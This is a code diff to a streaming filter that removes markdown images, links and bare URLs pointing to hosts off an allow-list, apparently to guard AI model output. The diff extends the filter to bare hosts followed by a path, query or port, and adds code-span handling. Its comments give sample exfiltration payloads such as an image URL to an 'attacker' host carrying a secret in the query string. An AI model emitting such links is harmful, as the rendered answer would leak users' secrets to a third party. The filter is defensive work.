@@ -5,7 +5,9 @@
  * srcset, poster, style="…url(…)"…) whose URL points to a host that is not on the route's
  * allow-list. A renderer fetches an image by itself, so
  * `![x](https://attacker/?q=<secret>)` sends the secret out as soon as the answer is shown; a
- * link does it on one click.
+ * link does it on one click. Bare hosts followed by a path, query, fragment or port
+ * (`attacker.com/?q=…`, linkify's fuzzy links) count when the host ends in an IANA top-level
+ * domain and is not inside code (`hostPathAt`, `codeAt`).
  *
  * The decision is made on the URL as a browser sees it: HTML entities are decoded (the `entities`
  * package), markdown backslash escapes removed, then the WHATWG URL parser (node's `URL`) resolves
@@ -20,15 +22,23 @@
  *
  * The parser is a left-to-right machine over the raw text, hand-written because no markdown
  * library parses a stream incrementally with a bounded hold-back. Text is released at once up to
- * the next candidate character (`[`, `]`, `!`, `<`, `h`/`H`, and a `.` right after a word-initial
- * `www`, found by looking back at the last raw characters already released); from a candidate on, it is held only
+ * the next candidate character (`[`, `]`, `!`, `<`, `h`/`H`, a `.` right after a word-initial
+ * `www`, a `/ ? # :` after a host, both found by looking back at text already released, and
+ * backticks and tildes, which open code); from a candidate on, it is held only
  * until the construct there is decided (closed, shown not to be one, or past its cap). So the
  * output is the same for every split of the text into chunks (property-tested), and ordinary
  * prose waits for nothing. Caps bound the hold-back: link text 500 characters, a destination or
  * bare URL 2048, an HTML tag 1024. A construct whose URL runs past its cap counts as disallowed
  * unless its host is allowed (fail closed).
  */
+import { createRequire } from 'node:module';
 import { decodeHTML, decodeHTMLAttribute } from 'entities';
+
+/**
+ * IANA's top-level domains (the `tlds` package, as linkifyjs uses): what makes `word.word/…` a
+ * host that an autolinker turns into a link. Required, not imported: the package is one JSON array.
+ */
+const TLDS: ReadonlySet<string> = new Set(createRequire(import.meta.url)('tlds') as string[]);
 
 /** What was found: `destination` is an orphan `](url)` whose `[` did not start a link (e.g. its text ran past the cap). */
 export type LinkType = 'image' | 'link' | 'reference' | 'url' | 'destination';
@@ -348,7 +358,7 @@ function wwwAt(t: string, i: number, final: boolean): Step {
   return bareUrl(t, i, i + 1, 'www', `.${PLACEHOLDER}`, final);
 }
 
-const CANDIDATE = /[[\]!<hH.]/g;
+const CANDIDATE = /[[\]!<hH./?#:`~]/g;
 const isW = (c: number): boolean => (c | 32) === 119;
 /**
  * What a word-initial `www` may follow: not a letter or digit, and not `@ / \ . - :`, which make
@@ -356,6 +366,15 @@ const isW = (c: number): boolean => (c | 32) === 119;
  * `sites-available/www.acme.org.conf`) — neither GFM nor linkify starts a link there.
  */
 const wwwBoundary = (c: number): boolean => !isAlnum(c) && c !== 64 && c !== 47 && c !== 92 && c !== 46 && c !== 45 && c !== 58;
+
+/** Raw characters a candidate may look back at: a host of up to 253 characters and its boundary. */
+const LOOKBACK = 256;
+const LETTER_OR_DIGIT = /[\p{L}\p{N}\p{M}]/u;
+/** A letter or digit of a host label, IDN included (one UTF-16 unit: astral characters end a host). */
+const isLabelChar = (c: number): boolean => (c < 128 ? isAlnum(c) : c < 0xd800 || c > 0xdfff ? LETTER_OR_DIGIT.test(String.fromCharCode(c)) : false);
+const isHostChar = (c: number): boolean => c === 45 || c === 46 || isLabelChar(c);
+const HOST = /^[\p{L}\p{N}](?:[\p{L}\p{N}\p{M}-]*[\p{L}\p{N}\p{M}])?(?:\.[\p{L}\p{N}](?:[\p{L}\p{N}\p{M}-]*[\p{L}\p{N}\p{M}])?)+$/u;
+const isDigit = (c: number): boolean => c >= 48 && c <= 57;
 
 /**
  * The filter over one text: push chunks, end; same output for every split. Counts what it
@@ -365,8 +384,18 @@ export class LinkStream {
   private buf = '';
   /** Length of `buf` when it was last parsed and found undecided. */
   private parsed = 0;
-  /** Raw text before `buf`, already released (at least its last 4 characters, or all there was): what a candidate looks back at (bare URL boundary, `www`). */
-  private tail = ' ';
+  /**
+   * Raw text before `buf`, already released (at least its last LOOKBACK characters, or all there
+   * was after a newline standing for the start): what a candidate looks back at (bare URL
+   * boundary, `www`, the host before a path, a line start).
+   */
+  private tail = '\n';
+  /** The same for the output released (what a renderer sees: a stripped construct may join two words). */
+  private outTail = '\n';
+  /** Inside a fenced code block (top level): its fence character and length. */
+  private fence: { ch: number; len: number } | null = null;
+  /** An inline code span runs in `buf` up to here (exclusive); -1: none. */
+  private codeUntil = -1;
   blocked = false;
 
   constructor(private readonly policy: LinkPolicy, readonly counts: Map<LinkType, number> = new Map()) {}
@@ -400,11 +429,13 @@ export class LinkStream {
       if (m === null) { out += t.slice(i); i = t.length; break; }
       const c = m.index;
       out += t.slice(i, c);
-      const step = this.stepAt(t, c, final);
+      const step = this.stepAt(t, c, final, out);
       if (step === 'more') {
-        this.tail = c >= 4 ? t.slice(c - 4, c) : (this.tail + t.slice(0, c)).slice(-4);
+        this.tail = c >= LOOKBACK ? t.slice(c - LOOKBACK, c) : (this.tail + t.slice(0, c)).slice(-LOOKBACK);
+        this.outTail = out.length >= LOOKBACK ? out : (this.outTail + out).slice(-LOOKBACK);
         this.buf = t.slice(c);
         this.parsed = this.buf.length;
+        if (this.codeUntil >= 0) this.codeUntil -= c;
         return out;
       }
       if (step === 'none') { out += t[c]; i = c + 1; continue; }
@@ -414,21 +445,137 @@ export class LinkStream {
       i = step.end;
     }
     // The text itself when long enough (a reference, no copy: before() reads only its end).
-    if (t.length >= 4) this.tail = t;
-    else if (t.length > 0) this.tail = (this.tail.length > 8 ? this.tail.slice(-4) : this.tail) + t;
+    if (t.length >= LOOKBACK) this.tail = t;
+    else if (t.length > 0) this.tail = (this.tail.length > 2 * LOOKBACK ? this.tail.slice(-LOOKBACK) : this.tail) + t;
+    if (out.length >= LOOKBACK) this.outTail = out;
+    else if (out.length > 0) this.outTail = (this.outTail.length > 2 * LOOKBACK ? this.outTail.slice(-LOOKBACK) : this.outTail) + out;
     this.buf = '';
     this.parsed = 0;
+    this.codeUntil = -1; // a span found in `t` ended within it
     return out;
   }
 
-  private stepAt(t: string, c: number, final: boolean): Step {
+  /** `out`: the output of this run so far (everything before t[c], decided). */
+  private stepAt(t: string, c: number, final: boolean, out: string): Step {
     switch (t.charCodeAt(c)) {
       case 91: case 33: return markdownAt(t, c, final);
       case 93: return orphanAt(t, c, final);
       case 60: return angleAt(t, c, final);
       case 46: return isW(this.before(t, c, 1)) && isW(this.before(t, c, 2)) && isW(this.before(t, c, 3)) && wwwBoundary(this.before(t, c, 4)) ? wwwAt(t, c, final) : 'none';
+      case 47: case 63: case 35: case 58: return this.hostPathAt(t, c, final, out);
+      case 96: case 126: return this.codeAt(t, c, final);
       default: return isAlnum(this.before(t, c, 1)) ? 'none' : bareAt(t, c, final);
     }
+  }
+
+  /**
+   * A bare host without a scheme, then a path, query, fragment or port: `attacker.com/?q=…`.
+   * linkify-it (markdown-it's linkify) and linkifyjs turn such text into a link, GFM does not.
+   * t[c] is the `/`, `?`, `#` or `:` after the host, which was released as ordinary text — so no
+   * word is ever held for possibly being a host; the decision looks back at it. Only a host
+   * ending in a top-level domain counts (so `and/or`, `v1.2/3`, `README.md` stay), after a
+   * boundary that is not `@ / \\ :` (an e-mail address, a path, a URL already judged). The host
+   * stays, the rest becomes `[link removed]`. Not inside code (fenced or inline): renderers
+   * link nothing there, and code is full of `github.com/x/y` and `obj.top/2`.
+   */
+  private hostPathAt(t: string, c: number, final: boolean, out: string): Step {
+    // The host is read from the output before t[c], not the raw text: what a renderer links is
+    // what it is shown (`attacker![x](…).com/…` shows `attacker.com/…` once the image is gone).
+    const back = (k: number): number => (k <= out.length ? out.charCodeAt(out.length - k) : this.outBefore(k - out.length));
+    if (this.fence !== null || c < this.codeUntil || !isLabelChar(back(1))) return 'none';
+    let k = 1;
+    let tldLen = -1;
+    for (; k <= LOOKBACK; k++) {
+      const ch = back(k);
+      if (!isHostChar(ch)) break;
+      if (ch === 46 && tldLen < 0) tldLen = k - 1;
+    }
+    if (k > 254 || tldLen < 1) return 'none';
+    const b = back(k);
+    if (b === 64 || b === 47 || b === 92 || b === 58) return 'none';
+    let host = '';
+    for (let j = k - 1; j >= 1; j--) host += String.fromCharCode(back(j));
+    if (!HOST.test(host) || !TLDS.has(host.slice(host.length - tldLen).toLowerCase())) return 'none';
+    if (t.charCodeAt(c) === 58) { // a port: digits must follow
+      if (c + 1 >= t.length) return final ? 'none' : 'more';
+      if (!isDigit(t.charCodeAt(c + 1))) return 'none';
+    }
+    return bareUrl(t, c, c + 1, `http://${host}`, PLACEHOLDER, final);
+  }
+
+  /**
+   * A backtick or tilde run: opens or closes a fenced code block at a line start (up to three
+   * spaces in; top level only — a fence in a list or quote is not seen, so the text stays
+   * filtered), or starts an inline code span when a closing run of the same length follows
+   * before a blank line (held until it is seen, at most TEXT_CAP characters). Code only turns
+   * off the host rule above; every other construct is still filtered in it (fail closed).
+   */
+  private codeAt(t: string, c: number, final: boolean): Step {
+    const ch = t.charCodeAt(c);
+    let e = c + 1;
+    while (e < t.length && t.charCodeAt(e) === ch) e++;
+    if (e >= t.length && !final) return 'more';
+    const pass: Hit = { end: e, type: 'url', urls: [], stripped: '' };
+    if (c < this.codeUntil) return pass; // in a span, or its closing run
+    const run = e - c;
+    if (run >= 3 && this.atLineStart(t, c)) {
+      // The rest of the line decides: a closing fence has only blanks after it; an opening
+      // backtick fence has no backtick in its info string.
+      let j = e;
+      const cap = Math.min(t.length, e + TAG_CAP);
+      while (j < cap && t.charCodeAt(j) !== 10 && t.charCodeAt(j) !== 13) j++;
+      if (j >= t.length && !final) return 'more';
+      const rest = t.slice(e, j);
+      if (j >= cap && cap < t.length) return pass; // an absurd line: not a fence (stays filtered)
+      if (this.fence !== null) {
+        if (ch === this.fence.ch && run >= this.fence.len && /^[ \t]*$/.test(rest)) this.fence = null;
+        return pass;
+      }
+      if (ch === 126 || !rest.includes('`')) { this.fence = { ch, len: run }; return pass; }
+    }
+    if (ch !== 96 || this.fence !== null) return pass;
+    // An inline span: the same run closes it, before a blank line.
+    const cap = Math.min(t.length, c + TEXT_CAP);
+    let j = e;
+    while (j < cap) {
+      const d = t.charCodeAt(j);
+      if (d === 96) {
+        let f = j + 1;
+        while (f < t.length && t.charCodeAt(f) === 96) f++;
+        if (f >= t.length && !final && f < c + TEXT_CAP) return 'more';
+        if (f - j === run) { this.codeUntil = f; return pass; }
+        j = f;
+        continue;
+      }
+      if (d === 10 || d === 13) { // a blank line next ends the paragraph: no span
+        let f = j + 1;
+        if (d === 13 && t.charCodeAt(f) === 10) f++;
+        while (f < cap && (t.charCodeAt(f) === 32 || t.charCodeAt(f) === 9)) f++;
+        if (f >= t.length && !final && f < c + TEXT_CAP) return 'more';
+        const g = t.charCodeAt(f);
+        if (g === 10 || g === 13) return pass;
+        j = f;
+        continue;
+      }
+      j++;
+    }
+    return j >= t.length && !final && j < c + TEXT_CAP ? 'more' : pass;
+  }
+
+  /** t[c] starts a line (after up to three spaces). */
+  private atLineStart(t: string, c: number): boolean {
+    for (let k = 1; k <= 4; k++) {
+      const b = this.before(t, c, k);
+      if (b === 10 || b === 13) return true;
+      if (b !== 32) return false;
+    }
+    return false;
+  }
+
+  /** The output character k places before what this run has released (a space before the start). */
+  private outBefore(k: number): number {
+    const j = this.outTail.length - k;
+    return j >= 0 ? this.outTail.charCodeAt(j) : 32;
   }
 
   /** The raw character k places before t[c], released or not (a space before the text's start). */
@@ -445,6 +592,7 @@ export class LinkStream {
     if (hit.inner !== undefined) {
       const sub = new LinkStream(this.policy, this.counts);
       sub.tail = '[';
+      sub.outTail = '[';
       const a = sub.push(t.slice(hit.inner[0], hit.inner[1]));
       const b = a === null ? null : sub.end();
       if (a === null || b === null) { this.blocked = true; return null; }
